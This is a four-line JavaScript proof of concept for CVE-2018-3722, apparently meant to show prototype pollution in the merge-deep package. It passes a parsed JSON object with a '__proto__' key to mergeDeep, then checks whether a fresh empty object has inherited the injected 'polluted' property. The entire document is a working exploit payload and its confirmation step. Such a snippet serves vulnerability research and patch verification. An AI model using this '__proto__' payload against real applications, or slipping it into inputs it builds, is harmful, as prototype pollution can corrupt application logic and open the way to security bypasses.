// CVE-2018-3722: merge-deep copies "__proto__" onto Object.prototype.
const mergeDeep = require('merge-deep');
mergeDeep({}, JSON.parse('{"__proto__": {"polluted": "yes"}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
